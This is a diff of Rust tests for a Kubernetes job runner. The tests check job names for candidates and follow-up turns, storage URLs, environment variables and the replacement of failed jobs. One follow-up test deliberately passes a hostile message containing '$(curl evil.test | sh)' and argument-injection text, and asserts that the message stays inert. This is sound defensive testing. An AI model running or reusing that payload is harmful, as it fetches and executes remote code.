@@ -39,13 +39,18 @@ enum Route {
 impl Route {
     fn of(method: &Method, path: &str, query: &str) -> Option<Route> {
         let jobs = format!("/apis/batch/v1/namespaces/{NS}/jobs");
-        let job = format!("{jobs}/{JOB}");
+        // Any one Job: a candidate's or a turn's is named apart from the task's (asserted
+        // on the posted Job).
+        let job = |p: &str| {
+            p.strip_prefix(&format!("{jobs}/"))
+                .is_some_and(|n| !n.contains('/'))
+        };
         let pods = format!("/api/v1/namespaces/{NS}/pods");
         let watch = query.contains("watch=true");
         Some(match (method.as_str(), path) {
             ("POST", p) if p == jobs => Route::CreateJob,
-            ("GET", p) if p == job => Route::GetJob,
-            ("DELETE", p) if p == job => Route::DeleteJob,
+            ("GET", p) if job(p) => Route::GetJob,
+            ("DELETE", p) if job(p) => Route::DeleteJob,
             ("GET", p) if p == jobs && query.contains("fieldSelector=metadata.name") => {
                 if watch {
                     Route::WatchJobs
@@ -53,7 +58,9 @@ impl Route {
                     Route::ListJobs
                 }
             }
-            ("GET", p) if p == format!("{pods}/{JOB}-xyz/log") => Route::PodLog,
+            ("GET", p) if p.starts_with(&format!("{pods}/")) && p.ends_with("-xyz/log") => {
+                Route::PodLog
+            }
             ("GET", p) if p == pods && query.contains("labelSelector=job-name") => {
                 if watch {
                     Route::WatchPods
@@ -308,6 +315,32 @@ async fn run_prepared(
     config: KubeRunnerConfig,
     prepared: Option<patchflow_workflows::io::PreparedEnv>,
 ) -> Run {
+    run_target(
+        script,
+        cancel_after,
+        store_summary.then(|| layout::results_prefix(&TASK.parse().unwrap())),
+        spec,
+        config,
+        prepared,
+        RunTarget::default(),
+        Vec::new(),
+    )
+    .await
+}
+
+/// One run of `target`, with its summary stored under `summary_at` and the objects `seed`
+/// (key, bytes) stored first.
+#[allow(clippy::too_many_arguments)]
+async fn run_target(
+    script: Script,
+    cancel_after: Option<Duration>,
+    summary_at: Option<String>,
+    spec: TaskSpec,
+    config: KubeRunnerConfig,
+    prepared: Option<patchflow_workflows::io::PreparedEnv>,
+    target: RunTarget,
+    seed: Vec<(String, Vec<u8>)>,
+) -> Run {
     let (mock, handle) = tower_test::mock::pair::<Request<Body>, Response<Body>>();
     let client = kube::Client::new(mock, "default");
     let seen = Arc::new(Mutex::new(Vec::new()));
@@ -319,14 +352,17 @@ async fn run_prepared(
             .unwrap(),
     );
     let task: TaskId = TASK.parse().unwrap();
-    if store_summary {
+    if let Some(prefix) = summary_at {
         store
             .put_bytes(
-                &layout::result_key(&task, layout::SUMMARY),
+                &format!("{prefix}{}", layout::SUMMARY),
                 &serde_json::to_vec(&summary()).unwrap(),
             )
             .await
             .unwrap();
+    }
+    for (key, bytes) in seed {
+        store.put_bytes(&key, &bytes).await.unwrap();
     }
     let runner = KubeRunner::new(client, config);
     let cancel = CancellationToken::new();
@@ -339,7 +375,16 @@ async fn run_prepared(
     }
     let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
     let work = dir.path().join("run-2");
-    let fut = runner.run(&task, &spec, prepared.as_ref(), &store, &work, tx, cancel);
+    let fut = runner.run_target(
+        &target,
+        &task,
+        &spec,
+        prepared.as_ref(),
+        &store,
+        &work,
+        tx,
+        cancel,
+    );
     let result = tokio::time::timeout(Duration::from_secs(20), async {
         tokio::select! {
             r = fut => r,
@@ -378,16 +423,189 @@ fn completes() -> Script {
         .on(Route::ListPods, list("PodList", vec![]))
 }
 
+fn candidate(n: u32) -> RunTarget {
+    RunTarget {
+        candidate: Some(n),
+        ..RunTarget::default()
+    }
+}
+
+fn followup(turn: u32, message: &str) -> RunTarget {
+    RunTarget {
+        followup: Some(patchflow_workflows::io::FollowUp {
+            turn,
+            message: message.into(),
+        }),
+        ..RunTarget::default()
+    }
+}
+
+/// `name` → value (or `valueFrom`) of a container's environment.
+fn env_of(c: &Value) -> BTreeMap<String, Value> {
+    c["env"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            let v = e
+                .get("value")
+                .cloned()
+                .unwrap_or_else(|| e["valueFrom"].clone());
+            (e["name"].as_str().unwrap().to_string(), v)
+        })
+        .collect()
+}
+
 #[test]
 fn job_names_are_dns_labels() {
     let t: TaskId = "tsk_ABC_123".parse().unwrap();
-    assert_eq!(job_name(&t, 3), "patchflow-tsk-abc-123-3");
+    let task = RunTarget::default();
+    assert_eq!(job_name(&t, &task, 3), "patchflow-tsk-abc-123-3");
+    assert_eq!(job_name(&t, &candidate(4), 3), "patchflow-tsk-abc-123-c4-3");
+    assert_eq!(
+        job_name(&t, &followup(2, "x"), 1),
+        "patchflow-tsk-abc-123-t2-1"
+    );
     let long: TaskId = "x".repeat(128).parse().unwrap();
-    let n = job_name(&long, 12);
-    assert!(n.len() <= 63, "{n}");
-    assert!(n.ends_with("-12"));
+    for (target, end) in [
+        (task, "x-12"),
+        (candidate(8), "-c8-12"),
+        (followup(99, "x"), "-t99-12"),
+    ] {
+        let n = job_name(&long, &target, 12);
+        assert!(n.len() <= 63, "{n}");
+        assert!(n.ends_with(end), "{n}");
+    }
     assert_eq!(label_value("Acme Corp/!"), "Acme-Corp");
     assert_eq!(attempt_of(Path::new("/w/run-7")), 7);
+    assert_eq!(attempt_of(Path::new("/w/run-c3-5")), 5);
+    assert_eq!(attempt_of(Path::new("/w/run-t12-2")), 2);
+    assert_eq!(attempt_of(Path::new("/w/elsewhere")), 1);
+}
+
+#[tokio::test]
+async fn a_candidate_is_its_own_job_storing_under_its_prefix() {
+    let script = completes().on(Route::CreateJob, ok(running_job()));
+    // Only the candidate's summary exists: the runner must read that one.
+    let prefix = format!("results/{TASK}/candidates/3/");
+    let run = run_target(
+        script,
+        None,
+        Some(prefix.clone()),
+        spec(),
+        config(),
+        None,
+        candidate(3),
+        Vec::new(),
+    )
+    .await;
+    assert_eq!(run.result.unwrap(), summary());
+    let job = created_job(&run.seen);
+    assert_eq!(job["metadata"]["name"], "patchflow-tsk-abc-123-c3-2");
+    assert_eq!(job["metadata"]["labels"]["patchflow.dev/candidate"], "3");
+    assert!(
+        job["metadata"]["labels"]
+            .get("patchflow.dev/turn")
+            .is_none()
+    );
+    let pod = &job["spec"]["template"]["spec"];
+    let (ie, ae) = (
+        env_of(&pod["initContainers"][0]),
+        env_of(&pod["containers"][0]),
+    );
+    assert_eq!(ae["PATCHFLOW_CANDIDATE"], "3");
+    assert!(!ae.contains_key("PATCHFLOW_TURN"));
+    for (var, file) in RESULT_URLS {
+        assert_eq!(
+            ae[var],
+            format!("https://s3.test/{prefix}{file}?op=put"),
+            "{var}"
+        );
+    }
+    // Every candidate starts from the same staged code and resumes nothing.
+    assert_eq!(
+        ie["PATCHFLOW_STAGED_URL"],
+        format!("https://s3.test/staged/{TASK}/code.tar.zst?op=get")
+    );
+    assert!(
+        !ie.keys().any(|k| k.starts_with("PATCHFLOW_RESUME")),
+        "{ie:?}"
+    );
+}
+
+#[tokio::test]
+async fn a_candidate_without_its_own_summary_fails_even_when_the_task_has_one() {
+    let script = completes().on(Route::CreateJob, ok(running_job()));
+    let run = run_target(
+        script,
+        None,
+        Some(layout::results_prefix(&TASK.parse().unwrap())),
+        spec(),
+        config(),
+        None,
+        candidate(2),
+        Vec::new(),
+    )
+    .await;
+    let err = run.result.unwrap_err().to_string();
+    assert!(err.contains("without storing a summary"), "{err}");
+}
+
+#[tokio::test]
+async fn a_follow_up_job_resumes_the_tasks_conversation_and_stores_under_its_turn() {
+    let script = completes().on(Route::CreateJob, ok(running_job()));
+    let prefix = format!("results/{TASK}/turns/3/");
+    // Hostile text stays a plain value: never in the command, never split into arguments.
+    let message = "Add subtract()\n$(curl evil.test | sh); `id` \"quoted\" --resume /etc";
+    let run = run_target(
+        script,
+        None,
+        Some(prefix.clone()),
+        spec(),
+        config(),
+        None,
+        followup(3, message),
+        // The task has a conversation but no changes yet (turn 1 changed nothing).
+        vec![(
+            layout::result_key(&TASK.parse().unwrap(), layout::CONVERSATION),
+            b"{}".to_vec(),
+        )],
+    )
+    .await;
+    assert_eq!(run.result.unwrap(), summary());
+    let job = created_job(&run.seen);
+    assert_eq!(job["metadata"]["name"], "patchflow-tsk-abc-123-t3-2");
+    assert_eq!(job["metadata"]["labels"]["patchflow.dev/turn"], "3");
+    let pod = &job["spec"]["template"]["spec"];
+    let (init, agent) = (&pod["initContainers"][0], &pod["containers"][0]);
+    let (ie, ae) = (env_of(init), env_of(agent));
+    assert_eq!(
+        ie["PATCHFLOW_RESUME_URL_CONVERSATION"],
+        format!("https://s3.test/results/{TASK}/conversation.json?op=get")
+    );
+    assert!(
+        !ie.contains_key("PATCHFLOW_RESUME_URL_CHANGES"),
+        "a file the task lacks is not presigned: {ie:?}"
+    );
+    assert_eq!(ie["PATCHFLOW_RESUME_DIR"], "/scratch/resume");
+    assert!(
+        !ae.keys().any(|k| k.starts_with("PATCHFLOW_RESUME_URL")),
+        "{ae:?}"
+    );
+    assert_eq!(ae["PATCHFLOW_TURN"], "3");
+    assert_eq!(ae["PATCHFLOW_FOLLOWUP_MESSAGE"], message);
+    assert!(!ae.contains_key("PATCHFLOW_CANDIDATE"));
+    for (var, file) in RESULT_URLS {
+        assert_eq!(
+            ae[var],
+            format!("https://s3.test/{prefix}{file}?op=put"),
+            "{var}"
+        );
+    }
+    for c in [init, agent] {
+        assert_eq!(c["command"], json!(["patchflow", "agent-pod"]));
+        assert_eq!(c["args"].as_array().unwrap().len(), 1, "{c}");
+    }
 }
 
 #[tokio::test]
@@ -456,21 +674,7 @@ async fn posts_a_restricted_job_and_completes_with_the_stored_summary() {
         assert_eq!(c["resources"], resources);
         assert_eq!(c["volumeMounts"], mounts);
     }
-    let env = |c: &Value| -> BTreeMap<String, Value> {
-        c["env"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .map(|e| {
-                let v = e
-                    .get("value")
-                    .cloned()
-                    .unwrap_or_else(|| e["valueFrom"].clone());
-                (e["name"].as_str().unwrap().to_string(), v)
-            })
-            .collect()
-    };
-    let (ie, ae) = (env(init), env(agent));
+    let (ie, ae) = (env_of(init), env_of(agent));
     assert_eq!(
         ie["PATCHFLOW_STAGED_URL"],
         format!("https://s3.test/staged/{TASK}/code.tar.zst?op=get")
@@ -496,6 +700,9 @@ async fn posts_a_restricted_job_and_completes_with_the_stored_summary() {
         ("PATCHFLOW_RESULT_URL_DIFF", "diff.patch"),
         ("PATCHFLOW_RESULT_URL_TRANSCRIPT", "transcript.jsonl"),
         ("PATCHFLOW_RESULT_URL_LOG", "agent.log"),
+        ("PATCHFLOW_RESULT_URL_CONVERSATION", "conversation.json"),
+        ("PATCHFLOW_RESULT_URL_CHANGES", "changes.tar.zst"),
+        ("PATCHFLOW_RESULT_URL_TURN_DIFF", "turn.patch"),
         ("PATCHFLOW_RESULT_URL_SUMMARY", "summary.json"),
     ] {
         assert_eq!(
@@ -633,6 +840,107 @@ async fn an_existing_job_is_adopted_and_followed() {
         run.seen
             .iter()
             .any(|s| s.method == Method::GET && s.uri.ends_with(JOB))
+    );
+}
+
+/// A Job of this task made by workflow run `run`.
+fn job_of_run(run: &str, conditions: Value) -> Value {
+    let mut j = job_json(conditions);
+    j["metadata"]["uid"] = json!(format!("uid-{run}"));
+    j["metadata"]["annotations"]["patchflow.dev/workflow-run"] = json!(run);
+    j
+}
+
+fn in_run(run: &str) -> RunTarget {
+    RunTarget {
+        workflow_run: Some(run.into()),
+        ..RunTarget::default()
+    }
+}
+
+#[tokio::test]
+async fn a_job_of_the_same_run_is_adopted() {
+    let script = completes()
+        .on(Route::CreateJob, status(409, "AlreadyExists"))
+        .on(Route::GetJob, ok(job_of_run("run-2", json!([]))));
+    let run = run_target(
+        script,
+        None,
+        Some(layout::results_prefix(&TASK.parse().unwrap())),
+        spec(),
+        config(),
+        None,
+        in_run("run-2"),
+        Vec::new(),
+    )
+    .await;
+    assert_eq!(run.result.unwrap(), summary());
+    assert!(run.seen.iter().all(|s| s.method != Method::DELETE));
+    let job = created_job(&run.seen);
+    assert_eq!(
+        job["metadata"]["annotations"]["patchflow.dev/workflow-run"],
+        "run-2"
+    );
+}
+
+#[tokio::test]
+async fn a_retried_tasks_new_run_replaces_the_finished_job_of_its_earlier_run() {
+    // The earlier run's Job failed; the new run must not inherit that outcome.
+    let old = job_of_run(
+        "run-1",
+        cond("Failed", "BackoffLimitExceeded", "old failure"),
+    );
+    let script = Script::default()
+        .on(Route::CreateJob, status(409, "AlreadyExists"))
+        .on(Route::GetJob, ok(old))
+        .on(
+            Route::DeleteJob,
+            ok(json!({"kind": "Status", "status": "Success"})),
+        )
+        // Watching the old Job go: the list no longer has it.
+        .on(Route::ListJobs, list("JobList", vec![]))
+        .on(Route::CreateJob, ok(job_of_run("run-2", json!([]))))
+        .on(
+            Route::ListJobs,
+            list("JobList", vec![job_of_run("run-2", json!([]))]),
+        )
+        .on(
+            Route::WatchJobs,
+            events(&[("MODIFIED", job_of_run("run-2", cond("Complete", "", "")))]),
+        )
+        .on(Route::ListPods, list("PodList", vec![]));
+    let run = run_target(
+        script,
+        None,
+        Some(layout::results_prefix(&TASK.parse().unwrap())),
+        spec(),
+        config(),
+        None,
+        in_run("run-2"),
+        Vec::new(),
+    )
+    .await;
+    assert_eq!(run.result.unwrap(), summary());
+    let methods: Vec<&Method> = run
+        .seen
+        .iter()
+        .filter(|s| s.method != Method::GET)
+        .map(|s| &s.method)
+        .collect();
+    assert_eq!(
+        methods,
+        [&Method::POST, &Method::DELETE, &Method::POST],
+        "{:?}",
+        run.seen
+    );
+    let delete = run
+        .seen
+        .iter()
+        .find(|s| s.method == Method::DELETE)
+        .unwrap();
+    assert_eq!(
+        delete.body.as_ref().unwrap()["propagationPolicy"],
+        "Foreground"
     );
 }
 
